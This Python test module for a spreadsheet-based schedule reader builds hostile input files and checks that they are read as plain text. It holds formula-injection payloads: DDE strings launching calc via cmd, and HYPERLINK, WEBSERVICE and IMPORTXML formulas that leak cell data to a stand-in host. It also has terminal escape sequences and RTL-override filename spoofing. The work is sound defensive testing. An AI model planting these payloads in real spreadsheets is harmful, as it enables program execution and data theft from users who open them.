"""Corpus cases: formula injection in every text cell, and odd text.

Injection: spreadsheet programs start a formula at a cell text beginning with ``=``,
``+``, ``-`` or ``@`` (OWASP, "CSV Injection"); ``cmd|' /C calc'!A0`` is a DDE call to
another program, ``HYPERLINK``, ``WEBSERVICE`` and ``IMPORTXML`` send data out. Every
such text must be read as the text it is (its value below, in the JSON summary) and be
written as text, never as a formula (README, "Input text is never a formula"; checked by
``hostile_run.formula_problems`` on every workbook written). A real formula in an input
cell is read by its last computed value (ECMA-376 Part 1, 18.3.1.96 ``<v>``), never copied.

Odd text: the README's "Cells as written" (text stays text: an activity may be called
``NA``; ``N/A``, ``None``, ``NULL`` or ``NaN`` in an estimate is not a number); control
characters are stored as ``_xHHHH_`` escapes (ECMA-376 Part 1, 22.9.2.19); 32,767
characters is the longest text a cell holds in Excel (Microsoft, "Excel specifications
and limits", from memory). IDs are compared as written after trimming spaces (README:
"IDs are text"), so an invisible or look-alike character makes another ID.

Cells named in the places are worked out by hand from the base rows (``hostile_corpus``:
header on row 1, T1 to T4 on rows 2 to 5, columns A to F).
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import xlwt
from hostile_corpus import BASE, BASE_TE, HEADER, invalid, replaced, rows_with, valid, write_csv
from hostile_files import Formula, Raw, write_ods, write_xlsx

PAYLOADS = {
    "dde-equals": "=cmd|' /C calc'!A0",
    "dde-plus": "+cmd|' /C notepad'!A0",
    "dde-minus": "-2+3+cmd|' /C calc'!A0",
    "dde-at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("http://example.invalid/leak?d="&A1,"Open the plan")',
    "dde-function": '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "webservice": '=WEBSERVICE("http://example.invalid/x")',
    "importxml": '=IMPORTXML(CONCAT("http://example.invalid/?v=",A2),"//a")',
    "tab-first": "\t=cmd|' /C calc'!A0",
    "cr-first": "\r=cmd|' /C calc'!A0",
}
#: Payloads with no comma, semicolon, bracket or leading blank: usable as activity IDs.
ID_PAYLOADS = ("dde-equals", "dde-plus", "dde-minus", "dde-at", "webservice")


def book(rows, name: str = "Plan", **sheets):
    def make(path: Path) -> Path:
        return write_xlsx(path, {name: rows, **sheets})

    return make


def described(payload: str) -> list[list[object]]:
    """T2 described by the payload, T3 in a group named by it, an extra notes column."""
    rows = replaced(3, 1, payload)
    rows[0] = HEADER + ["Group", "Notes"]
    rows[3] = rows[3] + ["crew", payload]
    rows[2] = rows[2] + [payload, payload]
    return rows


def named_by(payload: str) -> list[list[object]]:
    """Activity T2 renamed to the payload, its successor pointing at it."""
    rows = replaced(3, 0, payload)
    rows[3][2] = payload
    return rows


def payload_csv(path: Path) -> Path:
    rows = [HEADER + ["Group"]]
    for k, text in enumerate(PAYLOADS.values(), start=1):
        prev = f"K{k - 1}" if k > 1 else ""
        rows.append([f"K{k}", text, prev, 1, 2, 3, text])
    return write_csv(path, rows)


def payload_xls(path: Path) -> Path:
    book_ = xlwt.Workbook()
    sheet = book_.add_sheet("Plan")
    for r, row in enumerate(described(PAYLOADS["hyperlink"])):
        for c, value in enumerate(row):
            if value is not None:
                sheet.write(r, c, value)
    book_.save(str(path))
    return path


def with_column(header: str, values: dict[int, object]) -> list[list[object]]:
    """The base rows with a column G headed ``header`` holding ``values`` by sheet row."""
    rows = rows_with(header=HEADER + [header])
    for row, value in values.items():
        rows[row - 1] = rows[row - 1] + [value]
    return rows


def settings(*rows: list[object]) -> list[list[object]]:
    return [["Setting", "Value"], *[list(r) for r in rows]]


def links_sheet(path: Path) -> Path:
    p = PAYLOADS["dde-at"]
    rows = [
        HEADER[:2] + HEADER[3:],
        ["T1", "Dig", 2, 3, 5],
        [p, "Lay", 1, 2, 4],
        ["T3", "Fill", 1, 1, 2],
    ]
    links = [["Predecessor", "Successor", "Type", "Lag"], ["T1", p, "FS", 0], [p, "T3", "SS", 1]]
    return write_xlsx(path, {"Activities": rows, "Links": links})


def formulas_in_input(path: Path) -> Path:
    """Cells holding real formulas: a DDE call in an estimate, HYPERLINK in a description;
    each must be read by its cached value."""
    rows = replaced(3, 1, Formula('HYPERLINK("http://example.invalid","x")', "Lay pipe"))
    rows[2][4] = Formula("cmd|' /C calc'!A0", 2)
    rows[4][3] = Formula("SUM(1,0)", 1)
    return write_xlsx(path, {"Plan": rows})


INJECTION = (
    [
        valid(
            f"inject-{key}-text-cells",
            "plan.xlsx",
            book(described(text)),
            {"T2": {"name": text.strip()}},
            texts=(text,),
            watch=key == "dde-equals",
        )
        for key, text in PAYLOADS.items()
    ]
    + [
        valid(
            f"inject-{key}-as-id",
            "plan.xlsx",
            book(named_by(PAYLOADS[key])),
            {PAYLOADS[key]: {"te": BASE_TE["T2"]}},
            texts=(PAYLOADS[key],),
        )
        for key in ID_PAYLOADS
    ]
    + [
        valid(
            "inject-header-cells",
            "plan.xlsx",
            book(rows_with(header=HEADER + [PAYLOADS["hyperlink"], PAYLOADS["dde-plus"]])),
            {"T1": {"te": BASE_TE["T1"]}},
        ),
        valid(
            "inject-sheet-name",
            "plan.xlsx",
            book(BASE, name="=1+2+cmd|' C calc'!A0"),
            {"T4": {"te": BASE_TE["T4"]}},
        ),
        valid(
            "inject-settings-label",
            "plan.xlsx",
            book(BASE, Settings=settings([PAYLOADS["webservice"], "x"])),
            {"T1": {"te": BASE_TE["T1"]}},
            places=("Settings!A2",),
        ),
        valid(
            "inject-links-sheet-ids",
            "plan.xlsx",
            links_sheet,
            {PAYLOADS["dde-at"]: {"te": BASE_TE["T2"]}},
            texts=(PAYLOADS["dde-at"],),
        ),
        valid(
            "inject-file-name",
            "=1+2+cmd|' C calc'!A0.csv",
            lambda p: write_csv(p, BASE),
            {"T2": {"te": BASE_TE["T2"]}},
        ),
        valid(
            "inject-csv-every-text-cell",
            "plan.csv",
            payload_csv,
            {f"K{k}": {"name": t.strip()} for k, t in enumerate(PAYLOADS.values(), start=1)},
            texts=tuple(PAYLOADS.values())[:8],
        ),
        valid(
            "inject-ods",
            "plan.ods",
            lambda p: write_ods(p, {"Plan": described(PAYLOADS["dde-function"])}),
            {"T2": {"name": PAYLOADS["dde-function"]}},
            texts=(PAYLOADS["dde-function"],),
        ),
        valid(
            "inject-xls",
            "plan.xls",
            payload_xls,
            {"T2": {"name": PAYLOADS["hyperlink"]}},
            texts=(PAYLOADS["hyperlink"],),
        ),
        valid(
            "inject-real-formulas-read-by-value",
            "plan.xlsx",
            formulas_in_input,
            {"T2": {"name": "Lay pipe", "te": BASE_TE["T2"]}, "T4": {"te": 2.0}},
        ),
        invalid(
            "inject-estimate",
            "plan.xlsx",
            book(replaced(3, 3, PAYLOADS["dde-equals"])),
            "Plan!D3",
            "T2",
            texts=(PAYLOADS["dde-equals"],),
            watch=True,
        ),
        invalid(
            "inject-predecessor",
            "plan.xlsx",
            book(replaced(4, 2, PAYLOADS["dde-minus"])),
            "Plan!C4",
            "T3",
        ),
        invalid(
            "inject-distribution",
            "plan.xlsx",
            book(with_column("Distribution", {2: PAYLOADS["dde-plus"]})),
            "Plan!G2",
            "T1",
        ),
        invalid(
            "inject-settings-value",
            "plan.xlsx",
            book(BASE, Settings=settings(["Distribution", PAYLOADS["webservice"]])),
            "Settings!B2",
        ),
    ]
)

NA_WORDS = ["NA", "N/A", "None", "NULL", "NaN", "nan", "null", "#N/A", "-", "TRUE"]


def na_chain() -> list[list[object]]:
    rows = [HEADER]
    for k, word in enumerate(NA_WORDS):
        rows.append([word, word, NA_WORDS[k - 1] if k else None, 1, 2, 3])
    return rows


NA_READ = {w: {"name": w, "te": 2.0} for w in NA_WORDS}
LONG = ("Long description " * 1928)[:32755] + "end of 32767"  # 32,767 characters
LONG_ID = "L" * 32767
#: An operating-system command (set the window title) and "clear the screen" (ECMA-48).
ESCAPES = "\x1b]0;owned\x07\x1b[2JX"
CONTROL = "bell\x07 escape\x1b[31mred\x1b[0m nul-free \x01\x02\x1f end"


def two_ids(first: str, second_pred: str) -> list[list[object]]:
    """A fifth activity ``first`` after T4, and a sixth whose predecessor is written
    ``second_pred``."""
    return rows_with([first, "fifth", "T4", 1, 1, 1], ["T6", "sixth", second_pred, 1, 1, 1])


ODD = [
    valid("odd-na-words-as-ids-xlsx", "plan.xlsx", book(na_chain()), NA_READ),
    valid("odd-na-words-as-ids-csv", "plan.csv", lambda p: write_csv(p, na_chain()), NA_READ),
    valid(
        "odd-na-words-as-ids-ods", "plan.ods", lambda p: write_ods(p, {"Plan": na_chain()}), NA_READ
    ),
    valid(
        "odd-bool-cell-id",
        "plan.xlsx",
        book(rows_with([True, "flag", "T4", 1, 1, 1], ["T6", "after", "TRUE", 1, 1, 1])),
        {"TRUE": {"name": "flag"}, "T6": {"te": 1.0}},
    ),
    invalid(
        "odd-nan-in-optimistic", "plan.xlsx", book(replaced(3, 3, "NaN")), "Plan!D3", "T2", "NaN"
    ),
    invalid("odd-na-in-most-likely", "plan.xlsx", book(replaced(4, 4, "N/A")), "Plan!E4", "T3"),
    invalid("odd-null-in-pessimistic", "plan.xlsx", book(replaced(5, 5, "NULL")), "Plan!F5", "T4"),
    invalid(
        "odd-none-in-estimate-csv",
        "plan.csv",
        lambda p: write_csv(p, replaced(2, 4, "None")),
        "plan.csv!E2",
        "T1",
    ),
    valid(
        "odd-line-separator-description",
        "plan.xlsx",
        book(replaced(3, 1, "Lay\u2028pipe\u2029now")),
        {"T2": {"name": "Lay\u2028pipe\u2029now"}},
    ),
    valid(
        "odd-line-separator-in-id",
        "plan.xlsx",
        book(two_ids("T\u20285", "T\u20285")),
        {"T\u20285": {"name": "fifth"}},
    ),
    valid(
        "odd-rtl-override-description",
        "plan.xlsx",
        book(replaced(3, 1, "\u202egnp.exe\u202c Lay pipe")),
        {"T2": {"name": "\u202egnp.exe\u202c Lay pipe"}},
    ),
    invalid(
        "odd-rtl-mark-makes-another-id",
        "plan.xlsx",
        book(two_ids("T\u200f5", "T5")),
        "Plan!C7",
        "T6",
    ),
    valid(
        "odd-emoji-ids",
        "plan.xlsx",
        book(
            two_ids("\U0001f6a71", "\U0001f6a71")
            + [
                [
                    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
                    "family \U0001f44d\U0001f3fd",
                    "T6",
                    1,
                    1,
                    1,
                ]
            ]
        ),
        {
            "\U0001f6a71": {"name": "fifth"},
            "\U0001f468\u200d\U0001f469\u200d\U0001f467": {"name": "family \U0001f44d\U0001f3fd"},
        },
    ),
    valid(
        "odd-32767-char-description",
        "plan.xlsx",
        book(replaced(3, 1, LONG)),
        {"T2": {"name": LONG}},
    ),
    valid(
        "odd-32767-char-id",
        "plan.xlsx",
        book(two_ids(LONG_ID, LONG_ID)),
        {LONG_ID: {"name": "fifth"}},
        alone=True,
    ),
    valid(
        "odd-40000-char-description",
        "plan.xlsx",
        book(replaced(3, 1, "x" * 40000)),
        {"T2": {"te": BASE_TE["T2"]}},
    ),
    valid(
        "odd-control-characters",
        "plan.xlsx",
        book(replaced(3, 1, CONTROL)),
        {"T2": {"name": CONTROL}},
    ),
    invalid(
        "odd-terminal-escape-in-estimate",
        "plan.xlsx",
        book(replaced(3, 4, "\x1b[2J")),
        "Plan!E3",
        "T2",
    ),
    invalid(
        "odd-escape-sequence-in-duplicate-id",
        "plan.xlsx",
        book(rows_with([ESCAPES, "one", None, 1, 1, 1], [ESCAPES, "two", None, 1, 1, 1])),
        "Plan!A7",
    ),
    valid(
        "odd-escape-sequence-in-file-name",
        "plan\x1b]0;owned\x07\x1b[2J.csv",
        lambda p: write_csv(p, BASE),
        {"T1": {"te": BASE_TE["T1"]}},
    ),
    valid(
        "odd-escaped-lone-surrogate",
        "plan.xlsx",
        book(replaced(3, 1, Raw('<c r="B3" t="inlineStr"><is><t>a_xD800_b</t></is></c>'))),
        {"T2": {"te": BASE_TE["T2"]}},
    ),
    valid(
        "odd-literal-escape-text",
        "plan.xlsx",
        book(replaced(3, 1, "_x0041_ and _x000D_")),
        {"T2": {"name": "_x0041_ and _x000D_"}},
    ),
    valid(
        "odd-spaces-around-ids",
        "plan.xlsx",
        book(rows_with(["  T5\t", "fifth", " T4 ", 1, 1, 1], ["T6", "sixth", "T5", 1, 1, 1])),
        {"T5": {"name": "fifth"}, "T6": {"te": 1.0}},
    ),
    invalid(
        "odd-cyrillic-look-alike", "plan.xlsx", book(replaced(3, 2, "\u04221")), "Plan!C3", "T2"
    ),
    invalid(
        "odd-byte-order-mark-in-cell",
        "plan.xlsx",
        book(replaced(3, 2, "\ufeffT1")),
        "Plan!C3",
        "T2",
    ),
    valid(
        "odd-zero-width-space-id",
        "plan.xlsx",
        book(two_ids("T\u200b5", "T\u200b5")),
        {"T\u200b5": {"name": "fifth"}},
    ),
    invalid(
        "odd-apostrophe-sheet-name",
        "plan.xlsx",
        book(replaced(3, 4, "two"), name="O'Neil's plan"),
        "O'Neil's plan",
        "E3",
        "T2",
    ),
    invalid(
        "odd-unicode-sheet-name",
        "plan.xlsx",
        book(replaced(3, 4, "two"), name="Zeitplan \u2713 \u65e5\u7a0b"),
        "Zeitplan \u2713 \u65e5\u7a0b",
        "E3",
    ),
    valid(
        "odd-astral-and-private-use",
        "plan.xlsx",
        book(two_ids("\U0001d57f1", "\U0001d57f1") + [["T7", "\ue000\uf8ff", "T6", 1, 1, 1]]),
        {"\U0001d57f1": {"name": "fifth"}, "T7": {"name": "\ue000\uf8ff"}},
    ),
    valid(
        "odd-date-text-description",
        "plan.xlsx",
        book(replaced(3, 1, dt.date(2024, 3, 1))),
        {"T2": {"te": BASE_TE["T2"]}},
    ),
]

CASES = INJECTION + ODD
